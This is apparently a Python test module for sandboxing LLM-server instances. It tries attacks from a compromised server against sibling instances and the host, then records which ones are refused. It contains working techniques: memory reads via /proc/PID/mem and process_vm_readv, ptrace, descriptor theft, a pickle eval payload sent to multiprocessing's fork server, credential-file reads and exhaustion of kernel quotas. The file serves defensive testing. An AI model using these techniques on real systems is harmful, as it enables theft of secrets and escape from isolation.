"""Attacks of a compromised model server on its host and on other instances. Runs inside a unit's own sandbox.

`hold` starts a process with the secrets of one instance, `attempt` tries to get those of another. Every attack
returns what it obtained or raises OSError. Standard library only.
"""

import contextlib
import ctypes
import errno
import glob
import hashlib
import json
import mmap
import os
import pickle
import resource
import select
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = ctypes.c_void_p
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
IPC_CREAT, CLONE_NEWUSER = 0o1000, 0x10000000
SHM_BYTES = 4096
PIDFD_GETFD, BPF, PERF_EVENT_OPEN = 438, 321, 298  # x86-64
FREE_PORT = 11598
WHOLE_WORD = b"the secret of "
LARGE_BYTES = (1 << 30) + 1
RESOLVER = ("127.0.0.53", 53)
SOCKET = "/run/other/socket"
"""A socket of another program to which all users may connect."""
FOR_ALL = (
    "/home/other", "/var/lib/other", "/var/cache/other", "/var/log/other", "/var/www/other", "/tmp/other",
    "/var/tmp/other", "/dev/shm/other", "/srv/other", "/run/other",
)  # fmt: skip
"""Directories with a file that every user may read."""
_kept: list[Any] = []
_used: list[Any] = []
MESSAGE_DESCRIPTORS, EVENTS = 253, 1000
"""Descriptors in one message, the kernel's limit (SCM_MAX_FD), and descriptors that one epoll watches."""
AGAIN_SEC = 0.01


def _checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _reached(number: int, *arguments: Any) -> str:
    """Make a system call with invalid arguments."""
    try:
        _checked(LIBC.syscall(number, *arguments))
    except OSError as error:
        if error.errno not in (errno.EFAULT, errno.EINVAL):
            raise
    return "asked"


def _posix(name: str) -> bytes:
    return f"/citadel-{name}".encode()


def _key(name: str) -> int:
    return 0x6B000000 + sum(name.encode())


def hold(name: str) -> dict[str, int]:
    """Start a process that holds secrets and end the previous one; return its PID and the address of a secret."""
    while _kept:
        before = _kept.pop()
        before.kill()
        before.wait()
    code = f"import attacks, json; print(json.dumps(attacks.secrets({name!r})), flush=True); input()"
    holder = subprocess.Popen(
        [sys.executable, "-c", code],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        cwd=Path(__file__).parent,
        text=True,
    )
    _kept.append(holder)
    assert holder.stdout
    found: dict[str, int] = json.loads(holder.stdout.readline())
    return found


def secrets(name: str) -> dict[str, int]:
    """Put secrets into every kind of memory and listen on an abstract socket."""
    secret = WHOLE_WORD + name.encode()
    here = ctypes.create_string_buffer(secret)
    file = _checked(LIBC.shm_open(_posix(name), os.O_RDWR | os.O_CREAT, 0o600))
    os.ftruncate(file, SHM_BYTES)
    shared = mmap.mmap(file, SHM_BYTES)
    shared[: len(secret)] = secret
    segment = _checked(LIBC.shmget(_key(name), SHM_BYTES, IPC_CREAT | 0o600))
    ctypes.memmove(LIBC.shmat(segment, None, 0), secret, len(secret))
    _checked(LIBC.mq_open(_posix(name), os.O_RDWR | os.O_CREAT, 0o600, None))
    door = socket.socket(socket.AF_UNIX)
    door.bind(f"\0citadel-{name}")
    door.listen()
    _kept.extend((here, shared, door))
    return {"pid": os.getpid(), "address": ctypes.addressof(here)}


def _kill(pid: int, number: int) -> str:
    os.kill(pid, number)
    return "sent"


def _by_handle(pid: int) -> str:
    signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGURG)
    return "sent"


def _read_memory(pid: int, address: int) -> str:
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(address)
        return memory.read(len(WHOLE_WORD)).decode()


def _read_vector(pid: int, address: int) -> str:
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    taken = ctypes.create_string_buffer(len(WHOLE_WORD))
    mine, theirs = Vector(ctypes.addressof(taken), len(WHOLE_WORD)), Vector(address, len(WHOLE_WORD))
    _checked(LIBC.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))
    return taken.raw.decode()


def _trace(pid: int) -> str:
    _checked(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0)
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return "attached"


def _take_file(pid: int) -> str:
    """Take over an open file of the process, such as its listening socket."""
    os.close(_checked(LIBC.syscall(PIDFD_GETFD, os.pidfd_open(pid), 0, 0)))
    return "taken"


def _limit(pid: int) -> str:
    # Sets the current limit again: if the call succeeds, RLIMIT_CPU=0 could end the process.
    now = resource.prlimit(pid, resource.RLIMIT_CPU)
    resource.prlimit(pid, resource.RLIMIT_CPU, now)
    return "set"


def _slow_down(pid: int) -> str:
    os.sched_setaffinity(pid, os.sched_getaffinity(pid))
    return "set"


def _listed(pid: int) -> str:
    if str(pid) not in os.listdir("/proc"):
        raise FileNotFoundError(errno.ENOENT, "not in /proc")
    return "seen"


def _read(path: str) -> str:
    return Path(path).read_bytes()[:40].decode(errors="replace")


def _list(path: str) -> str:
    return " ".join(os.listdir(path)) or "empty"


def _write(path: str) -> str:
    """Create and delete a file, or open an existing file for writing without changing it."""
    there = os.path.exists(path)
    file = os.open(path, os.O_WRONLY | (0 if there else os.O_CREAT), 0o600)
    os.close(file)
    if not there:
        os.unlink(path)
    return "opened for writing"


def _shared_memory(name: str) -> str:
    file = _checked(LIBC.shm_open(_posix(name), os.O_RDONLY, 0))
    return os.read(file, len(WHOLE_WORD)).decode()


def _segment(name: str) -> str:
    place = LIBC.shmat(_checked(LIBC.shmget(_key(name), SHM_BYTES, 0)), None, 0)
    return ctypes.string_at(place, len(WHOLE_WORD)).decode()


def _queue(name: str) -> str:
    _checked(LIBC.mq_open(_posix(name), os.O_RDONLY))
    return "opened"


def _connect(address: str | tuple[str, int]) -> str:
    with socket.socket(socket.AF_UNIX if isinstance(address, str) else socket.AF_INET) as client:
        client.settimeout(3)
        client.connect(address)
    return "connected"


def _listen(port: int) -> str:
    socket.create_server(("127.0.0.1", port)).close()
    return "listens"


def _raw_socket() -> str:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
    return "opened"


def _mount() -> str:
    _checked(LIBC.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None))
    LIBC.umount(b"/mnt")
    return "mounted"


def _user_namespace() -> str:
    _checked(LIBC.unshare(CLONE_NEWUSER))
    return "made"


def _root() -> str:
    os.setuid(0)
    return "became root"


def _set_user_bit(path: str) -> str:
    Path(path).touch()
    os.chmod(path, 0o4755)
    os.unlink(path)
    return "set"


def _execute(directory: str) -> str:
    """Execute a program that this process has written."""
    program = Path(directory, "program")
    shutil.copy("/bin/true", program)
    try:
        subprocess.run([program], check=True)
    finally:
        program.unlink()
    return "executed"


def _execute_memory() -> str:
    """Execute a program in a file that is in no directory."""
    program = os.memfd_create("program", 0)
    try:
        os.write(program, Path("/bin/true").read_bytes())
        subprocess.run([f"/proc/{os.getpid()}/fd/{program}"], check=True)
    finally:
        os.close(program)
    return "executed"


def _load_memory() -> str:
    """Map a file that is in no directory as a library's code is mapped."""
    library = os.memfd_create("library", os.MFD_CLOEXEC)
    try:
        os.write(library, bytes(mmap.PAGESIZE))
        mmap.mmap(library, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_EXEC).close()
    finally:
        os.close(library)
    return "mapped"


def _load(directory: str) -> str:
    """Map a file that this process has written as a library's code is mapped."""
    library = Path(directory, "library")
    library.write_bytes(bytes(mmap.PAGESIZE))
    try:
        with library.open("rb") as file:
            rights = mmap.PROT_READ | mmap.PROT_EXEC
            mmap.mmap(file.fileno(), mmap.PAGESIZE, flags=mmap.MAP_PRIVATE, prot=rights).close()
    finally:
        library.unlink()
    return "mapped"


def _inotify() -> str:
    os.close(_checked(LIBC.inotify_init1(0)))
    return "made"


def _fill(directory: str) -> str:
    file = os.open(f"{directory}/large", os.O_WRONLY | os.O_CREAT)
    try:
        os.posix_fallocate(file, 0, LARGE_BYTES)
    finally:
        os.close(file)
        os.unlink(f"{directory}/large")
    return "written"


def _made_executable() -> str:
    mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC).close()
    return "mapped"


def _pass_descriptor() -> str:
    """Send a descriptor, as the main process does when it opens a server to clients."""
    here, there = socket.socketpair()
    with here, there:
        socket.send_fds(here, [b"x"], [here.fileno()])
    return "sent"


def _watch() -> str:
    """Watch a descriptor, as an event loop does for each connection."""
    here, there = socket.socketpair()
    with here, there, select.epoll() as watches:
        watches.register(here, select.EPOLLIN)
    return "watched"


QUOTAS = {"descriptors in flight": _pass_descriptor, "epoll watches": _watch}
"""What the kernel counts for each user, and a use of it."""


def use_up(quota: str) -> int:
    """Use all that the kernel allows this user, until this process ends; return how much it uses."""
    uses = {"descriptors in flight": _all_descriptors, "epoll watches": _all_watches}[quota]()
    used = next(uses)

    def keep() -> None:
        # Another process of the user, such as the API server, may give some back at any time.
        for _ in uses:
            time.sleep(AGAIN_SEC)

    threading.Thread(target=keep, daemon=True).start()
    return used


def _all_descriptors() -> Iterator[int]:
    """Use descriptors in flight; yields their number whenever there are no more."""
    count = 0
    while True:
        here, there = socket.socketpair()
        _used.extend((here, there))
        here.setblocking(False)
        while True:
            try:
                socket.send_fds(here, [b"x"], [here.fileno()] * MESSAGE_DESCRIPTORS)
                count += MESSAGE_DESCRIPTORS
            except BlockingIOError:
                break  # this socket has no room for more
            except OSError as error:
                if error.errno != errno.ETOOMANYREFS:
                    raise
                yield count


def _all_watches() -> Iterator[int]:
    """Use epoll watches; yields their number whenever there are no more."""
    events = [os.eventfd(0) for _ in range(EVENTS)]
    count = 0
    while True:
        watches = select.epoll()
        _used.append(watches)
        left = list(events)
        while left:
            try:
                watches.register(left[-1], select.EPOLLIN)
                count += 1
                left.pop()
            except OSError as error:
                if error.errno != errno.ENOSPC:
                    raise
                yield count


def on_neighbour(name: str, port: int, held: str, pid: int, address: int) -> dict[str, Callable[[], str]]:
    """Attacks on instance `name`, and on the process that holds the secrets of `held`."""
    return {
        "signal 0 to it": lambda: _kill(pid, 0),
        "SIGURG to it": lambda: _kill(pid, signal.SIGURG),
        "SIGURG by a pidfd": lambda: _by_handle(pid),
        "see it in /proc": lambda: _listed(pid),
        "/proc/PID/mem": lambda: _read_memory(pid, address),
        "process_vm_readv": lambda: _read_vector(pid, address),
        "ptrace": lambda: _trace(pid),
        "/proc/PID/environ": lambda: _read(f"/proc/{pid}/environ"),
        "/proc/PID/fd": lambda: _list(f"/proc/{pid}/fd"),
        "/proc/PID/root": lambda: _list(f"/proc/{pid}/root/tmp"),
        "a file that it has open": lambda: _take_file(pid),
        "prlimit of it": lambda: _limit(pid),
        "CPU affinity of it": lambda: _slow_down(pid),
        "list its cache": lambda: _list(f"/var/cache/citadel-llm/{name}"),
        "read a file in its cache": lambda: _read(f"/var/cache/citadel-llm/{name}/secret"),
        "write into its cache": lambda: _write(f"/var/cache/citadel-llm/{name}/new"),
        "read its run-time directory": lambda: _list(f"/run/citadel-llm/{name}"),
        "write its state": lambda: _write(f"/run/citadel-llm/{name}/state.json"),
        "read its credential": lambda: _read(f"/run/credentials/citadel-llm@{name}.service/api-key"),
        "POSIX shared memory": lambda: _shared_memory(held),
        "System V shared memory": lambda: _segment(held),
        "message queue": lambda: _queue(held),
        "abstract socket": lambda: _connect(f"\0citadel-{held}"),
        "connect to its port": lambda: _connect(("127.0.0.1", port)),
        "SIGKILL to it": lambda: _kill(pid, signal.SIGKILL),
    }


PROCESSES = ("API server", "main process", "fork server")
"""The processes that may have the secrets of a server, or start processes that may."""
PIECE_BYTES = 1 << 24
"""How much of a process's memory is read at once."""


class Payload:
    """What an attacker has another process run: it writes its PID to the first descriptor that was sent along."""

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
        """Run this code."""
        descriptor = "__import__('multiprocessing.forkserver').forkserver.get_inherited_fds()[0]"
        return eval, (f"__import__('os').write({descriptor}, b'ran')",)


def _have_fork_server() -> None:
    """Start multiprocessing's fork server as it is."""
    from multiprocessing import forkserver

    forkserver.set_forkserver_preload([])
    forkserver.ensure_running()


def _sockets_of_fork_server() -> list[str]:
    """Sockets where multiprocessing puts them: in the temporary directory of the main process."""
    places = {tempfile.gettempdir(), str(Path(tempfile.gettempdir()).parent)}
    found = [file for place in places for file in glob.glob(f"{place}/pymp-*/listener-*")]
    if not found:
        raise FileNotFoundError(errno.ENOENT, "no socket of a fork server")
    return found


def _run_by_fork_server() -> str:
    """Have a fork server start a process that runs a function, as multiprocessing does."""
    from multiprocessing import reduction

    for address in _sockets_of_fork_server():
        pipes = [os.pipe() for _ in range(4)]
        (child_r, parent_w), (parent_r, child_w), (_, alive), (result, told) = pipes
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(address)
                reduction.sendfds(client, [child_r, child_w, alive, os.dup(alive), told])
            for end in (child_r, child_w, told):
                os.close(end)
            with contextlib.suppress(BrokenPipeError), os.fdopen(parent_w, "wb") as process:
                process.write(pickle.dumps({}) + pickle.dumps(Payload()))
            # Ends at once if the server has closed its copies.
            if os.read(result, 3) == b"ran":
                return "a process has run it"
        finally:
            for end in (parent_r, result):
                os.close(end)
    raise ConnectionAbortedError(errno.ECONNABORTED, "no process was started")


def _replace_socket() -> str:
    """Put a socket of this process in the place of a fork server's, and that back."""
    (address, *_) = _sockets_of_fork_server()
    with socket.socket(socket.AF_UNIX) as own:
        own.bind(f"{address}.new")
        os.link(address, f"{address}.old")
        os.rename(f"{address}.new", address)
        os.rename(f"{address}.old", address)
    return "replaced"


def find(pid: int | str, begin: str, digest: str) -> str:
    """Find a secret of 64 characters in a process's memory, from its begin and a digest of all of it."""
    maps = Path(f"/proc/{pid}/maps").read_text(encoding="ascii", errors="replace").splitlines()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            place, rights, *_ = line.split()
            if "r" not in rights or "[v" in line:
                continue
            at, end = (int(number, 16) for number in place.split("-"))
            while at < end:
                try:
                    memory.seek(at)
                    piece = memory.read(min(PIECE_BYTES, end - at))
                except (OSError, ValueError, OverflowError):
                    # Not backed by memory, such as a file beyond its end.
                    break
                if not piece:
                    break
                found = piece.find(begin.encode())
                while found >= 0:
                    if hashlib.sha256(piece[found : found + 64]).hexdigest() == digest:
                        return "found"
                    found = piece.find(begin.encode(), found + 1)
                at += len(piece) if len(piece) < 100 or at + len(piece) >= end else len(piece) - 100
    raise FileNotFoundError(errno.ENOENT, "not found")


def _own_sockets(matches: Callable[[socket.socket], bool]) -> int:
    """Number of open sockets of this process that match."""
    count = 0
    for name in os.listdir("/proc/self/fd"):
        try:
            with socket.socket(fileno=os.dup(int(name))) as found:
                count += matches(found)
        except OSError:
            # It is no socket, or was that of the listing.
            continue
    return count


def accept(port: int) -> str:
    """Have the socket on which clients connect to this port."""

    def matches(found: socket.socket) -> bool:
        return found.family == socket.AF_INET and found.getsockname()[1] == port

    if not _own_sockets(matches):
        raise FileNotFoundError(errno.ENOENT, "no such socket")
    return "inherited"


def hear_commands() -> str:
    """Have the socket on which commands and keys come, besides the one for the reasons of failures."""
    count = _own_sockets(lambda found: found.family == socket.AF_UNIX and found.type == socket.SOCK_SEQPACKET)
    if count < 2:
        raise FileNotFoundError(errno.ENOENT, "no such socket")
    return "inherited"


def on_server(
    name: str, port: int, *, pids: dict[str, int], address: int, key: tuple[str, str], token: tuple[str, str]
) -> dict[str, Callable[[], str]]:
    """Attacks of the engine of instance `name` on the processes of its own server, for their secrets.

    `pids` has their PIDs by their names, `address` a readable address of the API server. `key` and `token` are the
    begin and the digest of a line of the private key, and of the token of the hub.
    """
    credentials = f"/run/credentials/citadel-llm@{name}.service"
    key_file = f"{credentials}/tls-key"
    server, main = pids["API server"], pids["main process"]
    whose = {f"of the {who}": pid for who, pid in pids.items()}
    assert {*pids} == {*PROCESSES}
    return {
        "read the private key": lambda: _read(key_file),
        "read the token of the hub": lambda: _read(f"{credentials}/hub-token"),
        "list the credentials": lambda: _list(credentials),
        **{
            f"/proc/PID/root {of}": partial(_read, f"/proc/{pid}/root{credentials}/tls-key")
            for of, pid in whose.items()
        },
        **{f"/proc/PID/fd {of}": partial(_list, f"/proc/{pid}/fd") for of, pid in whose.items()},
        **{f"/proc/PID/environ {of}": partial(_read, f"/proc/{pid}/environ") for of, pid in whose.items()},
        **{f"a file that is open in the {who}": partial(_take_file, pid) for who, pid in pids.items()},
        "/proc/PID/mem of the API server": lambda: _read_memory(server, address),
        "process_vm_readv of the API server": lambda: _read_vector(server, address),
        **{f"ptrace {of}": partial(_trace, pid) for of, pid in whose.items()},
        "find the private key in the memory of the main process": lambda: find(main, *key),
        "find the private key in its own memory": lambda: find("self", *key),
        "find the token in its own memory": lambda: find("self", *token),
        "have the socket of its server's clients": lambda: accept(port),
        "have the socket of the main process's commands": hear_commands,
        "have the fork server run a function": _run_by_fork_server,
        "replace the socket of the fork server": _replace_socket,
        "write into the cache of the API server": lambda: _write(f"/var/cache/citadel-llm/{name}/new"),
        "write into its temporary directory": lambda: _write("/run/tmp/new"),
        "write its state": lambda: _write(f"/run/citadel-llm/{name}/state.json"),
        "signal 0 to it": lambda: _kill(server, 0),
    }


def without_sandbox(key: str, token: str) -> dict[str, Callable[[], str]]:
    """Attacks of `on_server` where nothing refuses them: on processes outside the sandbox, of this process's user."""
    _have_fork_server()
    other = hold("outside")["pid"]
    begin_and_digest = {text: (text[:16], hashlib.sha256(text.encode()).hexdigest()) for text in (key, token)}
    return {
        **{f"a file that is open in the {who}": partial(_take_file, other) for who in PROCESSES},
        **{f"ptrace of the {who}": partial(_trace, other) for who in PROCESSES},
        "find the private key in its own memory": lambda: find("self", *begin_and_digest[key]),
        "find the token in its own memory": lambda: find("self", *begin_and_digest[token]),
        "have the fork server run a function": _run_by_fork_server,
        "replace the socket of the fork server": _replace_socket,
    }


def on_host(name: str, limit: str, outside: str) -> dict[str, Callable[[], str]]:
    """Attacks on the host from instance `name`.

    `limit` is the kernel's file with its memory limit, `outside` an address beyond loopback with an open port 9.
    """
    temporary = os.environ.get("TMPDIR", "/tmp")
    writable = {
        "its cache": f"/var/cache/citadel-llm/{name}",
        "its run-time directory": f"/run/citadel-llm/{name}",
        "its temporary directory": temporary,
        "/dev/shm": "/dev/shm",
    }
    return {
        "read its file of keys": lambda: _read(f"/etc/citadel-llm/{name}.keys"),
        "write the environment": lambda: _write("/opt/citadel/env/lib/python3.11/site-packages/new.py"),
        "write its settings": lambda: _write(f"/etc/default/citadel-llm-{name}"),
        "write a unit": lambda: _write("/etc/systemd/system/new.service"),
        "write a drop-in": lambda: _write("/run/systemd/system/new.service"),
        "write a model": lambda: _write("/var/lib/citadel-llm/models/new"),
        "write the store of the monitor": lambda: _write("/var/lib/citadel-llm/monitor/new"),
        "write a log": lambda: _write("/var/log/citadel-llm/new"),
        "read root's home directory": lambda: _list("/root"),
        **{f"read a world-readable file in {place}": partial(_read, f"{place}/for-all") for place in FOR_ALL},
        "connect to a world-writable socket in /run/other": lambda: _connect(SOCKET),
        **{f"execute a file in {what}": partial(_execute, place) for what, place in writable.items()},
        **{f"load a library from {what}": partial(_load, place) for what, place in writable.items()},
        "execute a file without a directory": _execute_memory,
        "load a library without a directory": _load_memory,
        "write to the disk in /tmp": lambda: _write("/tmp/new"),
        "write to the disk in /var/tmp": lambda: _write("/var/tmp/new"),
        "more than 1 GiB in its temporary directory": lambda: _fill(temporary),
        "read the store of the monitor": lambda: _read("/var/lib/citadel-llm/monitor/monitor.sqlite"),
        "read another's settings": lambda: _read("/etc/default/citadel-llm-test"),
        "read /etc/passwd": lambda: _read("/etc/passwd"),
        "raise its own memory limit": lambda: _write(limit),
        "reach systemd over D-Bus": lambda: _connect("/run/dbus/system_bus_socket"),
        "connect beyond loopback": lambda: _connect((outside, 9)),
        "ask a resolver on 127.0.0.53": lambda: _connect(RESOLVER),
        "listen on an unused port": lambda: _listen(FREE_PORT),
        "raw socket": _raw_socket,
        "mount": _mount,
        "set-user-ID file": lambda: _set_user_bit(f"{temporary}/set-user-id"),
        "become root": _root,
        "bpf": lambda: _reached(BPF, 0, None, 0),
        "perf_event_open": lambda: _reached(PERF_EVENT_OPEN, None, 0, -1, -1, 0),
        # The kernel counts them for root, who makes the user namespace of PrivateUsers=.
        "take one of the host's inotify instances": _inotify,
        "writable, executable memory": _made_executable,
        # Must be last: if it succeeds, the process is nobody from then on.
        "user namespace": _user_namespace,
    }


def attempt(attacks: dict[str, Callable[[], str]]) -> dict[str, list[str]]:
    """Try each attack; an outcome is ["got", result] or ["refused", reason]."""
    outcomes = {}
    for name, attack in attacks.items():
        try:
            outcomes[name] = ["got", attack()]
        except OSError as error:
            outcomes[name] = ["refused", errno.errorcode.get(error.errno or 0, str(error))]
    return outcomes
